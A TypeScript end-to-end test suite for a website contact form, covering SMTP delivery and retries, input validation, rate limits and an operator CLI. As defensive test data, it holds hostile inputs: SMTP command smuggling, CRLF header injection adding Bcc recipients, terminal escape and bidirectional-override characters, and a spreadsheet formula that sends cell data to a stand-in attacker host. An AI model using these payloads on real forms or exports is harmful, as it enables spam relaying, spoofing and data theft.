/**
 * POST /api/contact end to end: the real server on a loopback port, a real
 * SMTP server (test/support/smtp-server.ts) that goes down, refuses for a
 * while or for good, real ledger files in a temp folder, and the operator's
 * command (dist/cli/messages.js) as its own process. Retry timings are
 * shortened (FAST_OUTBOX); the behaviour is the same.
 */
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openMessageLedger, recordMessage } from '../../server/forms/contact/message-ledger';
import type { MessageEntry } from '../../server/forms/contact/message-ledger';
import { contactApiMessages } from '../../server/forms/contact/contact-handler';
import { contactMessages } from '../../shared/rules/contact-message';
import { capturingLogger, rootDir, startServer } from '../support/app';
import { FAST_OUTBOX } from '../support/fake-provider';
import { startSmtpServer } from '../support/smtp-server';
import { until } from '../support/until';
import type { TestSmtpServer } from '../support/smtp-server';
import { VALID_CONTACT_MESSAGE } from '../support/contact-message';

type Server = Awaited<ReturnType<typeof startServer>>;

let smtp: TestSmtpServer;
let dir: string;
let file: string;
let server: Server | undefined;

const VALID = VALID_CONTACT_MESSAGE;

beforeAll(async () => {
  smtp = await startSmtpServer();
});
afterAll(() => smtp.close());
beforeEach(async () => {
  smtp.received.length = 0;
  smtp.setMode('accept');
  smtp.setDelay(0);
  dir = await mkdtemp(path.join(tmpdir(), 'contact-'));
  file = path.join(dir, 'messages.jsonl');
});
afterEach(async () => {
  await server?.close();
  server = undefined;
  await smtp.start().catch(() => undefined); // a test that stopped it
  await rm(dir, { recursive: true, force: true });
});

function start(env: Record<string, string> = {}, withSmtp = true) {
  const smtpEnv: Record<string, string> = withSmtp
    ? {
        CONTACT_SMTP_URL: smtp.url,
        CONTACT_TO: 'advisors@example.com',
        CONTACT_FROM: 'website@example.com',
        CONTACT_COPY_TO: 'compliance@example.com',
      }
    : {};
  return startServer({
    env: { CONTACT_FILE: file, CONTACT_RATE_LIMIT: '0', SITE_URL: 'https://www.example.com', ...smtpEnv, ...env },
    outbox: FAST_OUTBOX,
    contact: { smtpTimeoutMs: 1_000 },
  });
}

async function post(body: unknown, init: { path?: string; type?: string; headers?: Record<string, string> } = {}) {
  const type = init.type ?? 'application/json';
  const res = await fetch(`${server!.origin}${init.path ?? '/api/contact'}`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'Content-Type': type, ...init.headers },
    body:
      typeof body === 'string'
        ? body
        : type === 'application/json'
          ? JSON.stringify(body)
          : new URLSearchParams(body as Record<string, string>).toString(),
  });
  const text = await res.text();
  let json: Record<string, unknown> | undefined;
  try {
    json = JSON.parse(text) as Record<string, unknown>;
  } catch {
    json = undefined;
  }
  return { status: res.status, headers: res.headers, text, json };
}

async function entries(): Promise<MessageEntry[]> {
  const ledger = openMessageLedger({ file, logger: capturingLogger('silent').logger });
  await ledger.refresh();
  return ledger.list();
}

const execFileAsync = promisify(execFile);
/** The operator's command, as its own process, on this test's ledger. */
async function cli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await execFileAsync('node', ['dist/cli/messages.js', ...args], {
      cwd: rootDir,
      env: { PATH: process.env.PATH ?? '', CONTACT_FILE: file },
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
  }
}

describe('a message that is accepted', () => {
  it('is recorded owner-only before the answer, then reaches the SMTP server as plain text with Reply-To, the topic and a Bcc copy', async () => {
    server = await start();
    const answer = await post(VALID);
    expect(answer.status).toBe(200);
    expect(answer.json).toEqual({ ok: true, message: contactApiMessages.received });
    expect(answer.headers.get('cache-control')).toBe('no-store');
    // On disk when the visitor was answered.
    const [recorded] = await entries();
    expect(recorded).toMatchObject({ ...VALID, status: expect.stringMatching(/^(pending|sent)$/) });
    expect((await stat(file)).mode & 0o777).toBe(0o600);

    const [mail] = await smtp.waitFor(1);
    expect(mail!.envelope).toEqual({ from: 'website@example.com', to: ['advisors@example.com', 'compliance@example.com'] });
    const { parsed } = mail!;
    expect(parsed.subject).toBe('Website enquiry: Launching my own RIA');
    expect(parsed.replyTo?.text).toBe(VALID.email);
    expect(parsed.from?.text).toBe('website@example.com');
    expect(parsed.messageId).toBe(`<${recorded!.id}@www.example.com>`);
    expect(parsed.html).toBe(false);
    expect(parsed.text).toContain(`Name:     ${VALID.name}`);
    expect(parsed.text).toContain(`Firm:     ${VALID.company}`);
    expect(parsed.text).toContain(`Phone:    ${VALID.phone}`);
    expect(parsed.text).toContain(VALID.message);
    // The copy travels as a Bcc: in the envelope, never in the headers the firm sees.
    expect(mail!.raw).not.toMatch(/^bcc:/im);
    expect(mail!.raw).not.toMatch(/^cc:/im);

    await until(async () => (await entries())[0]?.status === 'sent');
    expect(smtp.received).toHaveLength(1);
  });

  it('takes the form without JavaScript at /contact and at /api/contact: 303 to the page with the outcome', async () => {
    server = await start();
    for (const target of ['/contact', '/api/contact']) {
      const answer = await post(VALID, { path: target, type: 'application/x-www-form-urlencoded' });
      expect(answer.status).toBe(303);
      expect(answer.headers.get('location')).toBe('/contact?message=received#message-form');
    }
    await smtp.waitFor(2);
    const page = await fetch(`${server.origin}/contact?message=received`);
    expect(await page.text()).toContain('Thank you, your message has been received');
  });

  it('a message body that looks like SMTP commands stays text: one message, same envelope', async () => {
    server = await start();
    const message =
      'Hello.\r\n.\r\nMAIL FROM:<evil@example.net>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\nSubject: hi\r\n\r\nowned\r\n.\r\n';
    expect((await post({ ...VALID, message })).status).toBe(200);
    await smtp.waitFor(1);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(smtp.received).toHaveLength(1);
    expect(smtp.received[0]!.envelope.to).toEqual(['advisors@example.com', 'compliance@example.com']);
    expect(smtp.received[0]!.parsed.text).toContain('MAIL FROM:<evil@example.net>');
  });

  it('without a topic, the subject says none was chosen', async () => {
    server = await start();
    expect((await post({ ...VALID, topic: '' })).status).toBe(200);
    const [mail] = await smtp.waitFor(1);
    expect(mail!.parsed.subject).toBe('Website enquiry (no topic chosen)');
  });
});

describe('bad input gets a 400 naming each field', () => {
  beforeEach(async () => {
    server = await start();
  });

  it('names every missing required field', async () => {
    const answer = await post({});
    expect(answer.status).toBe(400);
    expect(answer.json?.fields).toEqual({
      name: contactMessages.nameMissing,
      email: 'Please enter your email address.',
      message: contactMessages.messageMissing,
    });
    expect(answer.json?.error).toMatch(/^Some fields need correcting: name: /);
  });

  it.each([
    ['a message of 9 characters', { message: '123456789' }, 'message', contactMessages.messageTooShort],
    ['a message of 5,001 characters', { message: 'x'.repeat(5001) }, 'message', contactMessages.messageTooLong],
    ['an unknown topic', { topic: 'crypto' }, 'topic', contactMessages.topicUnknown],
    ['a phone number in words', { phone: 'call me maybe' }, 'phone', contactMessages.phoneInvalid],
    ['a name that is a number', { name: 42 }, 'name', contactMessages.notText],
    ['a message that is a list', { message: ['a', 'b'] }, 'message', contactMessages.notText],
    ['an escape character in the message', { message: 'Hello \u001b[31mred\u001b[0m world' }, 'message', contactMessages.controlCharacters],
    // C1 controls (a terminal reads U+009B as ESC [) and the characters that make text read in another direction.
    ['a C1 control in the name', { name: 'Dana\u009b2J' }, 'name', contactMessages.controlCharacters],
    ['a C1 control in the message', { message: 'Hello \u009b31mred\u009b0m world' }, 'message', contactMessages.controlCharacters],
    ['a right-to-left override in the name', { name: 'Dana \u202egnp.exe' }, 'name', contactMessages.controlCharacters],
    ['a left-to-right embedding in the firm', { company: '\u202aAcme\u202c' }, 'company', contactMessages.controlCharacters],
    ['an isolate in the message', { message: 'Please call \u2067Dana\u2069 back tomorrow.' }, 'message', contactMessages.controlCharacters],
    ['a first-strong isolate in the topic', { topic: '\u2068iar' }, 'topic', contactMessages.controlCharacters],
  ])('%s', async (_what, change, field, error) => {
    const answer = await post({ ...VALID, ...change });
    expect(answer.status).toBe(400);
    expect(answer.json?.fields).toEqual({ [field]: error });
  });

  it.each([
    ['name', { name: 'Dana\r\nBcc: victim@example.net' }],
    ['name (LF only)', { name: 'Dana\nSubject: Free money' }],
    ['company', { company: 'Acme\r\nX-Spam: yes' }],
    ['phone', { phone: '555 0100\nBcc: victim@example.net' }],
    ['email', { email: 'dana@example.com\r\nBcc: victim@example.net' }],
    ['topic', { topic: 'iar\r\nBcc: victim@example.net' }],
  ])('a line break in %s (header injection) is refused, and nothing is sent', async (_field, change) => {
    const answer = await post({ ...VALID, ...change });
    expect(answer.status).toBe(400);
    expect(Object.values(answer.json?.fields as object).join(' ')).toMatch(/one line|valid email/);
    expect(await entries()).toEqual([]);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(smtp.received).toEqual([]);
  });

  it('the form without JavaScript gets the page back, 400, with what was typed and each error', async () => {
    const answer = await post(
      { ...VALID, phone: 'call me maybe', message: 'Dear <b>firm</b> & "team"' },
      { path: '/contact', type: 'application/x-www-form-urlencoded' },
    );
    expect(answer.status).toBe(400);
    expect(answer.headers.get('content-type')).toMatch(/^text\/html/);
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(answer.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(answer.text).toContain(`value="${VALID.name}"`);
    expect(answer.text).toContain('value="Whitfield &amp; Co. CPAs"');
    expect(answer.text).toContain('Dear &lt;b&gt;firm&lt;/b&gt; &amp; &quot;team&quot;');
    expect(answer.text).not.toContain('<b>firm</b>');
    expect(answer.text).toMatch(
      /<input[^>]*aria-describedby="contact-phone-error"[^>]*>|<input[^>]*id="contact-phone"[^>]*aria-describedby="contact-phone-error"/,
    );
    expect(answer.text).toContain(
      `id="contact-phone-error">${contactMessages.phoneInvalid.replace(/&/g, '&amp;')}</p>`.replace(/\+/g, '+'),
    );
    expect(answer.text).toMatch(/id="contact-form-summary"[^>]*autofocus=""/);
    expect(await entries()).toEqual([]);
  });

  it.each([
    ['an unreadable JSON body', '{"name": ', 'application/json', 400, contactApiMessages.unreadable],
    ['a body of another type', 'name=x', 'text/plain', 415, contactApiMessages.unsupportedType],
    ['a body over 64 kB', JSON.stringify({ ...VALID, message: 'x'.repeat(70_000) }), 'application/json', 413, contactApiMessages.tooLarge],
  ])('%s: %i', async (_what, body, type, status, error) => {
    const answer = await post(body, { type });
    expect(answer.status).toBe(status);
    expect(answer.json).toEqual({ ok: false, error });
  });

  it('a post from another site is refused with 403', async () => {
    const answer = await post(VALID, { headers: { Origin: 'https://evil.example.net', 'Sec-Fetch-Site': 'cross-site' } });
    expect(answer.status).toBe(403);
    expect(answer.json).toEqual({ ok: false, error: contactApiMessages.crossSite });
    expect(await entries()).toEqual([]);
  });

  it('every other method on /api/contact is a 405; /contact allows GET, HEAD and POST', async () => {
    for (const method of ['GET', 'PUT', 'DELETE', 'PATCH']) {
      const res = await fetch(`${server!.origin}/api/contact`, { method });
      expect(res.status).toBe(405);
      expect(res.headers.get('allow')).toBe('POST');
      expect(await res.json()).toEqual({ ok: false, error: contactApiMessages.methodNotAllowed });
    }
    const put = await fetch(`${server!.origin}/contact`, { method: 'PUT' });
    expect(put.status).toBe(405);
    expect(put.headers.get('allow')).toBe('GET, HEAD, POST');
  });

  it('a filled honeypot is answered as a success, and nothing is kept or sent', async () => {
    const answer = await post({ ...VALID, website: 'https://spam.example.net' });
    expect(answer.status).toBe(200);
    expect(answer.json).toEqual({ ok: true, message: contactApiMessages.received });
    const form = await post({ ...VALID, website: 'x' }, { type: 'application/x-www-form-urlencoded' });
    expect(form.status).toBe(303);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await entries()).toEqual([]);
    expect(smtp.received).toEqual([]);
  });
});

describe('the rate limit (CONTACT_RATE_LIMIT per hour)', () => {
  it('refuses the third message from a client with 429; corrections do not count; the form keeps what was typed', async () => {
    server = await start({ CONTACT_RATE_LIMIT: '2' });
    expect((await post({ ...VALID, message: 'short' })).status).toBe(400); // not counted
    expect((await post(VALID)).status).toBe(200);
    expect((await post(VALID)).status).toBe(200);
    const refused = await post(VALID);
    expect(refused.status).toBe(429);
    expect(refused.json).toEqual({ ok: false, error: contactApiMessages.rateLimited });
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    const form = await post(VALID, { path: '/contact', type: 'application/x-www-form-urlencoded' });
    expect(form.status).toBe(429);
    expect(form.text).toContain(contactApiMessages.rateLimited);
    expect(form.text).toContain(`value="${VALID.name}"`);
    expect(await entries()).toHaveLength(2);
  });
});

describe('refused posts from one client', () => {
  const sentBack = (message = 'short') => post({ ...VALID, message }, { path: '/contact', type: 'application/x-www-form-urlencoded' });

  it('are pages made per request: past the client’s render budget (RENDER_RATE_LIMIT), a 429 in words, Retry-After', async () => {
    // In production (pages are admitted there), a burst of two pages made for one client, and one more a second.
    server = await start({ NODE_ENV: 'production', CONTACT_RATE_LIMIT: '0', RENDER_RATE_LIMIT: '1' });
    const answers = [await sentBack(), await sentBack(), await sentBack()];
    expect(answers.map((answer) => answer.status)).toEqual([400, 400, 429]);
    // A person's form sent back: the page again, with what they typed and what to correct.
    expect(answers[0]!.text).toContain(`value="${VALID.name}"`);
    expect(answers[0]!.text).toContain(contactMessages.messageTooShort);
    expect(answers[2]!.text).toBe(contactApiMessages.formRefused);
    expect(Number(answers[2]!.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    // What costs no render is not refused: the JSON API still says what to correct.
    expect((await post({ ...VALID, message: 'short' })).status).toBe(400);
  });
});

describe('delivery that never loses a message', () => {
  it('SMTP down, then up: every message is received at once, kept pending, and delivered exactly once', async () => {
    await smtp.stop();
    server = await start();
    const answers = await Promise.all(
      ['one', 'two', 'three'].map((n) =>
        post({ ...VALID, email: `visitor.${n}@example.com`, message: `Message number ${n}, sent while SMTP is down.` }),
      ),
    );
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200]);
    await until(async () => (await entries()).every((entry) => (entry.attempts ?? 0) >= 1));
    expect((await entries()).map((entry) => entry.status)).toEqual(['pending', 'pending', 'pending']);
    expect((await entries())[0]!.lastError).toMatch(/^SMTP not available: /);
    expect(server.logs.some((line) => line.msg === 'contact message not delivered yet; kept pending, will retry')).toBe(true);

    await smtp.start();
    await until(async () => (await entries()).every((entry) => entry.status === 'sent'));
    await new Promise((resolve) => setTimeout(resolve, 500)); // any second delivery would arrive now
    expect(smtp.received.map((mail) => mail.parsed.replyTo?.text).sort()).toEqual([
      'visitor.one@example.com',
      'visitor.three@example.com',
      'visitor.two@example.com',
    ]);
    expect(new Set(smtp.received.map((mail) => mail.parsed.messageId)).size).toBe(3);
  });

  it('a 4xx answer is retried with backoff until the server takes it: delivered once', async () => {
    smtp.setMode('tempfail');
    server = await start();
    expect((await post(VALID)).status).toBe(200);
    await until(async () => ((await entries())[0]?.attempts ?? 0) >= 2);
    expect((await entries())[0]).toMatchObject({ status: 'pending', lastError: expect.stringContaining('451') });
    smtp.setMode('accept');
    await until(async () => (await entries())[0]?.status === 'sent');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(smtp.received).toHaveLength(1);
  });

  it('a slow SMTP server never holds up the visitor', async () => {
    smtp.setDelay(3_000);
    server = await start();
    const started = performance.now();
    expect((await post(VALID)).status).toBe(200);
    expect(performance.now() - started).toBeLessThan(1_000);
    expect((await entries())[0]?.status).toBe('pending');
  });

  it('a 5xx refusal marks the message failed for the operator; `messages retry` sends it once the cause is fixed', async () => {
    smtp.setMode('reject');
    server = await start();
    expect((await post(VALID)).status).toBe(200); // it is received: it is on disk
    await until(async () => (await entries())[0]?.status === 'failed');
    const [failed] = await entries();
    expect(failed!.lastError).toMatch(/^SMTP server refused the message: .*550/);
    expect(server.logs.some((line) => line.msg === 'contact message refused by the receiving side' && line.level === 40)).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(smtp.attempts).toBeGreaterThan(0);
    const attemptsBefore = smtp.attempts;
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(smtp.attempts).toBe(attemptsBefore); // never retried on its own

    const list = await cli('list');
    expect(list.stdout).toMatch(/^failed\s+1$/m);
    smtp.setMode('accept');
    const retry = await cli('retry');
    expect(retry.stdout).toContain('Re-queued 1 failed entry');
    await until(async () => (await entries())[0]?.status === 'sent');
    expect(smtp.received).toHaveLength(1);
  });

  it('without SMTP settings the ledger is the inbox: one warning at start-up, messages kept as received', async () => {
    server = await start({}, false);
    const warnings = server.logs.filter((line) => String(line.msg).startsWith('CONTACT_SMTP_URL is not set'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.level).toBe(40);
    expect((await post(VALID)).status).toBe(200);
    expect((await entries())[0]).toMatchObject({ status: 'received', name: VALID.name });
  });

  it('a ledger that cannot be written: 503 and "not reached us"; the form keeps what was typed', async () => {
    const blocker = path.join(dir, 'not-a-folder');
    await import('node:fs/promises').then((fs) => fs.writeFile(blocker, 'a file where the folder should be'));
    file = path.join(blocker, 'messages.jsonl');
    server = await start();
    const answer = await post(VALID);
    expect(answer.status).toBe(503);
    expect(answer.json).toEqual({ ok: false, error: contactApiMessages.unavailable });
    const form = await post(VALID, { path: '/contact', type: 'application/x-www-form-urlencoded' });
    expect(form.status).toBe(503);
    expect(form.text).toContain(contactApiMessages.unavailable);
    expect(form.text).toContain(VALID.message.split('\n')[0]);
    expect(server.logs.some((line) => line.msg === 'contact message could not be recorded' && line.level === 50)).toBe(true);
  });

  it('logs no word a visitor wrote', async () => {
    server = await start();
    await post(VALID);
    await post({ ...VALID, message: 'short' });
    await smtp.waitFor(1);
    const text = JSON.stringify(server.logs);
    for (const value of [VALID.name, VALID.email, VALID.company, VALID.phone, 'CPA firm']) expect(text).not.toContain(value);
  });
});

describe('npm run messages', () => {
  it('lists, shows, exports as CSV, and removes by id or by address', async () => {
    server = await start({}, false);
    await post(VALID);
    await post({ ...VALID, message: 'A second message, with "quotes", commas and\na line break.' });
    await post({ ...VALID, email: 'other@example.com', message: 'From someone else entirely.' });
    const [first] = await entries();

    const list = await cli('list');
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(/^received\s+3$/m);
    expect(list.stdout).toContain(first!.id);

    const show = await cli('show', first!.id);
    expect(show.stdout).toContain(`Name:     ${VALID.name}`);
    expect(show.stdout).toContain(VALID.message);

    const csv = await cli('export', '--csv');
    expect(csv.stdout.split('\n')[0]).toBe('id,status,received_at,name,email,company,phone,topic,message');
    expect(csv.stdout).toContain('"A second message, with ""quotes"", commas and\na line break."');

    const byAddress = await cli('remove', VALID.email.toUpperCase());
    expect(byAddress.stdout).toContain('Removed 2 messages');
    const byId = await cli('remove', (await entries())[0]!.id);
    expect(byId.code).toBe(0);
    expect(await entries()).toEqual([]);
    // Erased, not flagged: the words are gone from the file.
    expect(await readFile(file, 'utf8')).not.toContain('CPA firm');
    expect((await cli('list')).stdout).toMatch(/^removed\s+3/m);
  });

  it('exports a cell a spreadsheet would run as a formula as text, and shows stored control characters escaped', async () => {
    server = await start({}, false);
    const formulas = {
      ...VALID,
      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      company: '@SUM(1+1)',
      phone: '+1 555 0100',
      message: '-2+3 is what I would like to discuss with you.',
    };
    expect((await post(formulas)).status).toBe(200);
    const csv = (await cli('export', '--csv')).stdout.split('\n')[1]!;
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",`);
    expect(csv).toContain(`,'@SUM(1+1),'+1 555 0100,`);
    expect(csv).toMatch(/,'-2\+3 is what I would like to discuss with you\.$/);
    for (const cell of csv.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);

    // A message kept before the form refused control characters (or written by another tool) still holds them.
    const ledger = openMessageLedger({ file, logger: capturingLogger('silent').logger });
    const kept = await recordMessage(ledger, { ...VALID, name: 'Dana \u202eevil\u202c', message: 'Hello \u001b[2J\u009b31m world.\nBye.' });
    const show = (await cli('show', kept.id)).stdout;
    expect(show).toContain('Name:     Dana \\u202eevil\\u202c');
    expect(show).toContain('Hello \\u001b[2J\\u009b31m world.\nBye.');
    const list = (await cli('list')).stdout;
    expect(list).toContain('Hello \\u001b[2J\\u009b31m world. Bye.');
    for (const char of ['\u001b', '\u009b', '\u202e', '\u202c']) expect(`${show}${list}`).not.toContain(char);
  });

  it('answers bad usage with the usage text and exit code 2, an unknown id with exit code 1', async () => {
    const usage = await cli('frobnicate');
    expect(usage.code).toBe(2);
    expect(usage.stderr).toContain('Usage: messages <command>');
    const unknown = await cli('show', 'm-0000000000000000');
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain('No message m-0000000000000000');
  });
});
